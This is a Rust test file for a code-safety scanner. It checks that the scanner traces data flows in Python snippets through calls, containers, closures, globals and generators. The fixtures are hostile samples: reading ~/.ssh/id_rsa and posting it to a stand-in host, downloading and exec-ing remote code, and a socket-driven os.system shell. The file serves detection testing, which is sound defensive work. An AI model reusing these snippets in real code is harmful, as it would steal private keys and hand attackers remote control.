//! Flows from sources to sinks, by the way that the data takes; each is reported with its steps.

use saferun_scanner::{Level, Options, Report, scan};

fn report(code: &str) -> Report {
    scan(code, &Options::default())
}

/// The code must raise the rule at this level, with this many steps at least.
#[track_caller]
fn flows(code: &str, rule: &str, level: Level, steps: usize) {
    let report = report(code);
    let found: Vec<_> = report
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.level))
        .collect();
    let Some(finding) = report.findings.iter().find(|finding| finding.rule == rule) else {
        panic!("no {rule} in {found:?}\n{code}");
    };
    assert_eq!(finding.level, level, "{code}");
    assert!(
        finding.evidence.len() >= steps,
        "{:#?}\n{code}",
        finding.evidence
    );
}

const KEY: &str = "import os, requests\ndef read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\ndef send(data):\n    requests.post('https://x.example', data=data)\n";

#[test]
fn through_two_calls() {
    flows(&format!("{KEY}send(read())\n"), "SR901", Level::Blocked, 3);
}

#[test]
fn through_three_functions() {
    let code = format!("{KEY}def middle(v):\n    w = v.strip()\n    send(w)\nmiddle(read())\n");
    flows(&code, "SR901", Level::Blocked, 4);
}

#[test]
fn through_a_container() {
    flows(
        &format!("{KEY}box = []\nbox.append(read())\nsend(box[0])\n"),
        "SR901",
        Level::Blocked,
        2,
    );
    flows(
        &format!("{KEY}box = {{'k': read()}}\nsend(box['k'])\n"),
        "SR901",
        Level::Blocked,
        2,
    );
    flows(
        &format!("{KEY}box = {{}}\nbox['k'] = read()\nsend(box)\n"),
        "SR901",
        Level::Blocked,
        2,
    );
    flows(
        &format!("{KEY}a, b = 1, read()\nsend(b)\n"),
        "SR901",
        Level::Blocked,
        2,
    );
}

#[test]
fn through_an_attribute() {
    let code = format!(
        "{KEY}class Job:\n    def __init__(self):\n        self.key = read()\n    def go(self):\n        send(self.key)\nJob().go()\n"
    );
    flows(&code, "SR901", Level::Blocked, 3);
    let plain =
        format!("{KEY}def box(): pass\nspace = make()\nspace.key = read()\nsend(space.key)\n");
    flows(&plain, "SR901", Level::Blocked, 2);
}

#[test]
fn through_a_closure() {
    let code = format!(
        "{KEY}def outer():\n    key = read()\n    def inner():\n        send(key)\n    inner()\nouter()\n"
    );
    flows(&code, "SR901", Level::Blocked, 3);
}

#[test]
fn through_a_global_and_a_loop() {
    let code = format!(
        "{KEY}key = None\ndef load():\n    global key\n    key = read()\ndef go():\n    send(key)\nload()\ngo()\n"
    );
    flows(&code, "SR901", Level::Blocked, 2);
    let looped = format!("{KEY}last = ''\nfor i in things():\n    send(last)\n    last = read()\n");
    flows(&looped, "SR901", Level::Blocked, 2);
}

#[test]
fn through_generators_comprehensions_and_formats() {
    flows(
        &format!("{KEY}def gen():\n    yield read()\nfor v in gen():\n    send(v)\n"),
        "SR901",
        Level::Blocked,
        2,
    );
    flows(
        &format!("{KEY}send([c.upper() for c in [read()]])\n"),
        "SR901",
        Level::Blocked,
        1,
    );
    flows(
        &format!("{KEY}send(f'key={{read()}}')\n"),
        "SR901",
        Level::Blocked,
        1,
    );
    flows(
        &format!("{KEY}send('%s' % read())\n"),
        "SR901",
        Level::Blocked,
        1,
    );
    flows(
        &format!("{KEY}import base64\nsend(base64.b64encode(read().encode()))\n"),
        "SR901",
        Level::Blocked,
        1,
    );
}

#[test]
fn downloads_that_run() {
    flows(
        "import requests\nexec(requests.get('https://x.example').text)\n",
        "SR911",
        Level::Blocked,
        1,
    );
    flows(
        "import socket, os\ns = socket.socket()\ns.connect(('x.example', 1))\nwhile True:\n    os.system(s.recv(99).decode())\n",
        "SR916",
        Level::Blocked,
        1,
    );
}

#[test]
fn a_key_in_a_header_is_what_it_is_for() {
    let code = "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.example', headers={'Authorization': f'Bearer {key}'}, json={'q': 'hello'})\n";
    let report = report(code);
    assert!(report.risk() <= Level::Low, "{:#?}", report.findings);
}

#[test]
fn data_of_one_function_does_not_leak_into_another() {
    let code = format!("{KEY}send('hello')\nprint(len(read()))\n");
    assert!(
        report(&code)
            .findings
            .iter()
            .all(|finding| finding.rule != "SR901")
    );
}
